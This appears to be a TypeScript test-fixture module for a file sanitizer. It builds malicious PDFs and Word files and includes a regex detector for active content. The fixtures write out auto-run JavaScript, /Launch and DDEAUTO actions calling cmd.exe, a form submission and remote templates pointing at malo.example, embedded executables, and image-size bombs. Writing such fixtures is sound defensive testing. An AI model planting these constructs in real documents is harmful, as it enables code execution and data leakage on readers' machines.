import { deflateSync, inflateSync } from 'node:zlib'
import { bombaPng, fotoDePrueba, svg } from './fotos.ts'
import { compuesto, docx, fib, pdf, zip } from './papeles.ts'
import { armar, raiz, sheets } from './pdf-hostil.ts'

/** Harmful files: scripts, embedded files, external links, too many points. */

const sheet = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>'
const guion = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const conRaiz = (mas: string, ...others: Parameters<typeof armar>[0]) =>
  armar([`<< /Type /Catalog /Pages 2 0 R ${mas} >>`, sheets, sheet, ...others])
const comprimido = (bytes: string) => ({ bytes: deflateSync(Buffer.from(bytes)) })

export const pdfsActivos: Record<string, () => Buffer> = {
  'a program when it opens': () => conRaiz(`/OpenAction ${guion}`),
  'a program by its name': () => conRaiz(`/Names << /JavaScript << /Names [(a) 4 0 R] >> >>`, guion),
  'another program of the machine': () => conRaiz('/OpenAction << /S /Launch /F (cmd.exe) >>'),
  'letters of its name in hexadecimal': () => conRaiz('/Open#41ction << /S /J#61vaScript /J#53 (x) >>'),
  'a program of a page': () => armar([raiz, sheets, sheet.replace('>>', `/AA << /O ${guion} >> >>`)]),
  'a program of a link': () =>
    armar([raiz, sheets, sheet.replace('>>', `/Annots [4 0 R] >>`), `<< /Subtype /Link /Rect [0 0 9 9] /A ${guion} >>`]),
  'an address that is a program': () =>
    armar([
      raiz,
      sheets,
      sheet.replace('>>', `/Annots [4 0 R] >>`),
      '<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>',
    ]),
  'a form that is a program': () =>
    conRaiz('/AcroForm << /Fields [] /XFA 4 0 R >>', { dict: '', bytes: '<xdp><script>app.launchURL("x")</script></xdp>' }),
  'a file inside': () =>
    conRaiz('/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>', '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>', {
      dict: '/Type /EmbeddedFile',
      bytes: 'MZ un programa',
    }),
  'one pinned to a page': () =>
    armar([
      raiz,
      sheets,
      sheet.replace('>>', '/Annots [4 0 R] >>'),
      '<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >> >>',
      { dict: '', bytes: 'MZ un programa' },
    ]),
  'sending what was typed': () => conRaiz('/OpenAction << /S /SubmitForm /F (http://malo.example/) >>'),
  'a program in a packet': () =>
    conRaiz('/OpenAction 5 0 R', {
      dict: `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode`,
      ...comprimido(`5 0 ${guion}`),
    }),
  'a packet that a later thing covers': () => {
    const bytes = conRaiz('/OpenAction 5 0 R', {
      dict: `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode`,
      ...comprimido(`5 0 ${guion}`),
    }).toString('latin1')
    return Buffer.from(bytes.replace('trailer', '5 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\ntrailer'), 'latin1')
  },
  'a thing that a later one covers': () =>
    Buffer.from(
      conRaiz('/OpenAction 4 0 R', guion)
        .toString('latin1')
        .replace('trailer', '4 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\ntrailer'),
      'latin1',
    ),
}

/** Files that cannot be cleaned: they are rejected with advice. */
export const noSeLimpian: Record<string, () => Promise<Buffer>> = {
  'a document with an object of another program': () => docx({ 'word/embeddings/oleObject1.bin': 'MZ' }),
  'a document whose template lies elsewhere': () =>
    docx({
      'word/_rels/settings.xml.rels':
        '<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://malo.example/x.dotm" TargetMode="External"/></Relationships>',
    }),
  'a document whose picture lies elsewhere, by entities': () =>
    docx({
      'word/_rels/document.xml.rels':
        '<Relationships><Relationship Id="a" Type="http://x/image" Target="http://malo.example/x.png" TargetMode="&#69;xternal"/></Relationships>',
    }),
  'a document that asks a program for a field, in two pieces': () =>
    docx({
      'word/header1.xml':
        '<w:hdr><w:instrText>DD</w:instrText><w:instrText xml:space="preserve">EAUTO c:\\\\cmd.exe</w:instrText></w:hdr>',
    }),
  'an old document with a package': () => compuesto('\u0001Ole10Native', fib()),
}

export const noSonPapeles: Record<string, () => Promise<Buffer> | Buffer> = {
  svg: () => svg,
  'a page': () => Buffer.from('<!doctype html><script>alert(1)</script>'),
  'a program': () => Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), Buffer.alloc(3000)]),
  'a photo of 30,000 × 30,000': () => bombaPng(30_000, 30_000),
  'a JPEG that says 30,000 × 30,000': async () => conTamanio(await fotoDePrueba('jpeg'), 30_000),
  'a GIF that says 30,000 × 30,000': async () => {
    const gif = Buffer.from(await fotoDePrueba('gif'))
    gif.writeUInt16LE(30_000, 6)
    gif.writeUInt16LE(30_000, 8)
    return gif
  },
  'lines that end a PDF': () => Buffer.from(`%PDF-1.4\n${'%%EOF\n'.repeat(200_000)}`),
  'a PDF and a zip': async () => Buffer.concat([pdf(), await zip({ 'a.txt': 'x' })]),
}

/** Rewrites the size in the header of a JPEG. */
function conTamanio(jpeg: Buffer, side: number): Buffer {
  const other = Buffer.from(jpeg)
  for (let at = 2; at + 9 < other.length && other[at] === 0xff; at += 2 + other.readUInt16BE(at + 2)) {
    if (other[at + 1] !== 0xc0 && other[at + 1] !== 0xc2) continue
    other.writeUInt16BE(side, at + 5)
    other.writeUInt16BE(side, at + 7)
  }
  return other
}

const activo = /\/(JavaScript|JS|Launch|SubmitForm|EmbeddedFiles?|EF|XFA|AA)(?=[\s/<>[\]()]|$)|javascript:|MZ un programa|<script/

/** Active content left in a file, also in compressed streams; "" if none. */
export function loQueCorre(content: Buffer): string {
  const text = content.toString('latin1')
  const plegado = [...text.matchAll(/stream\r?\n([\s\S]*?)endstream/g)].map(([, dentro]) => {
    try {
      return inflateSync(Buffer.from(dentro ?? '', 'latin1')).toString('latin1')
    } catch {
      return ''
    }
  })
  const all = [text, ...plegado]
    .join('\n')
    .replace(/#([0-9a-fA-F]{2})/g, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)))
  return activo.exec(all)?.[0] ?? ''
}
